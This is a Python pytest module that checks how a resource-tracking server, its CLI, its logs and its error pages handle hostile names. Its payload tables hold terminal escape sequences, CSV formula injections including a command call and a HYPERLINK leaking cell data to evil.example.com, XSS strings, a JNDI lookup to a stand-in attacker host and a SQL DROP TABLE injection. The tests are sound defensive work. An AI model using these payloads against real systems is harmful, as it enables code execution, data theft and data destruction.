"""Names that would be orders to a terminal, a spreadsheet, a browser or a log: taken, and shown as what they are.

In a real server's answers, its log and its audit log, and in what the command line says of them. The dashboard:
`tests/suites/dashboard/test_pages.py::test_names_of_others_are_texts`.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Final
from urllib.parse import quote
from uuid import uuid4

import pytest

from tests.suites.cli.conftest import berth
from tests.suites.security.callers import Who, minted
from tests.suites.security.target_server import NEWEST, Attacked, attacked
from tests.support.raw_http import RawReply
from tests.unit.api.v1.conftest import HOST

STEERING: Final = {
    "colour": "\x1b[31mred",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "link": "\x1b]8;;http://evil.example.com\x1b\\click",
    "eight bits": "\x9b31m",
    "backwards": "\u202eexe.txt",
    "line": "host-1\nroot done",
    "return": "host-1\rhost-2",
    "backspace": "host-1\b2",
    "line separator": "a\u2028b",
}
FORMULAS: Final = {
    "calls": "=cmd|' /C calc'!A0",
    "links": '=HYPERLINK("http://evil.example.com?x="&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "quotes": '",=1+1,"',
}
MARKUP: Final = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "vector": "<svg/onload=alert(1)>",
    "entity": "&lt;b&gt;",
    "console": "[red]x[/red][link=http://evil.example.com]y[/link]",
    "template": "{{7*7}}${7*7}%s%n{0.__class__}",
    "lookup": "${jndi:ldap://evil.example.com/a}",
    "statement": "'; DROP TABLE resource_providers; --",
}
NASTY: Final = {**STEERING, **FORMULAS, **MARKUP}

COMMANDS: Final = (
    ("providers",), ("consumers",), ("usage", "--projects"), ("classes",), ("traits",), ("changes", "--after", "0"),
    ("audit", "list", "--limit", "1000"), ("history", HOST), ("find", "VCPU=1"),
)  # fmt: skip


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    with attacked(tmp_path_factory.mktemp("names"), 'auth = ["token"]\n[log]\naccess = true\n') as server:
        server.begin()
        yield server


@pytest.fixture(scope="module")
def admin(server: Attacked) -> str:
    return minted(server.folder, Who("admin"))


def ask(server: Attacked, token: str, method: str, path: str, body: object = None, *more: tuple[str, str]) -> RawReply:
    headers = [("x-auth-token", token), NEWEST, *more]
    if body is None:
        return server.ask(method, path, headers)
    return server.ask(method, path, [*headers, ("content-type", "application/json")], json.dumps(body).encode())


@pytest.fixture(scope="module")
def named(server: Attacked, admin: str) -> dict[str, tuple[int, int]]:
    """How each was answered as the name of a provider, and as that of a project and a user."""
    found = {}
    for case, name in NASTY.items():
        provider = ask(server, admin, "POST", "/resource_providers", {"name": name})
        claim = {
            "allocations": {HOST: {"resources": {"MEMORY_MB": 1}}},
            "project_id": name,
            "user_id": name,
            "consumer_generation": None,
            "consumer_type": "JOB",
        }
        consumer = ask(server, admin, "PUT", f"/allocations/{uuid4()}", claim)
        found[case] = provider.status, consumer.status
    return found


@pytest.mark.parametrize("case", NASTY)
def test_it_is_a_name_of_a_provider_a_project_and_a_user(case: str, named: dict[str, tuple[int, int]]) -> None:
    """As with Placement. So all of them are there where the following look."""
    assert named[case] == (200, 204)


@pytest.mark.parametrize("case", NASTY)
def test_it_is_none_of_a_trait_a_class_or_a_type(case: str, server: Attacked, admin: str) -> None:
    name, before = NASTY[case], server.state()
    for path in ("/traits/", "/resource_classes/"):
        got = ask(server, admin, "PUT", f"{path}CUSTOM_{quote(name, safe='')}")
        assert got.status in (400, 404)
        assert not steers(got.body.decode())
    claim = {"allocations": {}, "project_id": "p", "user_id": "u", "consumer_generation": None, "consumer_type": name}
    assert ask(server, admin, "PUT", f"/allocations/{uuid4()}", claim).status == 400
    assert server.state() == before


def steers(text: str) -> list[str]:
    """What a terminal would obey."""
    return [each for each in text if not each.isprintable() and each != "\n"]


@pytest.mark.parametrize("form", [(), ("--json",), ("--csv",)], ids=["people", "json", "csv"])
@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
def test_what_the_command_line_says(
    words: tuple[str, ...], form: tuple[str, ...], server: Attacked, admin: str, named: object
) -> None:
    done = berth(*words, *form, "--url", f"http://127.0.0.1:{server.port}", env={"BERTH_TOKEN": admin})
    assert done.status == 0, done.err
    assert steers(done.out) == steers(done.err) == []
    if form == ("--csv",):
        for row in csv.reader(io.StringIO(done.out)):
            assert [cell for cell in row if re.match(r"\s*[=+@-]", cell)] == []


@pytest.mark.parametrize("case", NASTY)
def test_in_a_page_of_an_error(case: str, server: Attacked, admin: str) -> None:
    """A browser that is led to a made-up address runs nothing of it."""
    got = ask(server, admin, "GET", f"/traits/{quote(NASTY[case], safe='')}", None, ("accept", "text/html"))
    page = got.body.decode()
    assert got.status == 404
    assert (got.header("content-type") or "").startswith("text/html")
    assert set(re.findall(r"<\s*(\w+)", page)) <= {"html", "head", "title", "body", "h1", "p"}


@pytest.mark.parametrize("case", NASTY)
def test_in_the_audit_log(case: str, server: Attacked) -> None:
    """A refused attempt is one record and one line, whatever it was aimed at."""
    reader = minted(server.folder, Who("reader"))
    got = ask(server, reader, "PUT", f"/traits/{quote(NASTY[case].replace('/', '|'), safe='')}")
    assert got.status == 403
    record = server.record(got.header("x-openstack-request-id") or "")
    assert (record.outcome, record.operation) == ("403", "traits.ensure")
    assert not [each for each in record.target if ord(each) < 32 or 127 <= ord(each) < 160]


def test_in_the_log(server: Attacked, named: object) -> None:
    """Every line is one that Berth has begun, and none steers the terminal that shows it."""
    log = (server.folder / "log").read_text(encoding="utf-8")
    assert "/traits/" in log, "requests are in it"
    assert steers(log) == []
    assert "root done" not in [line[: len("root done")] for line in log.splitlines()]
